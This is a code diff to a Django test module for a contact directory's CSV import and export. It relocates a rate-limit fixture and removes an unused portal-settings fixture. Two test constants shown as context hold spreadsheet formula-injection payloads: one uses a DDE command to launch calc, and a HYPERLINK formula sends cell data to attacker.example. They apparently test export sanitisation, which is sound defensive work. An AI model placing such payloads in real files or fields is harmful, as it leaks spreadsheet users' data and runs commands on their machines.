@@ -14,26 +14,14 @@ from directory import exports, selectors, tabular
 from directory.filters import DirectoryFilters
 from directory.importing import contact_import_preview
 from directory.models import Contact, ContactPhone
-from portal.models import PortalSettings
 from tests.directory.test_admin import EDIT, edit_data
 from tests.directory.test_import import csv_file, row
 from tests.factories import ContactFactory, country, fictional_number
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("generous_export_rate")]
 
 FORMULA_EMAIL = "=cmd|'/Ccalc'!A0@example.org"
 HYPERLINK_ID = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
-
-
-@pytest.fixture(autouse=True)
-def generous_export_rate(settings):
-    # The export rate limit is per client address, and every test client shares one address.
-    settings.DIRECTORY_EXPORT_RATE = "1000/m"
-
-
-@pytest.fixture
-def bsr():
-    return PortalSettings.objects.select_related("site").get(site__hostname="bsr.localhost")
 
 
 @pytest.fixture
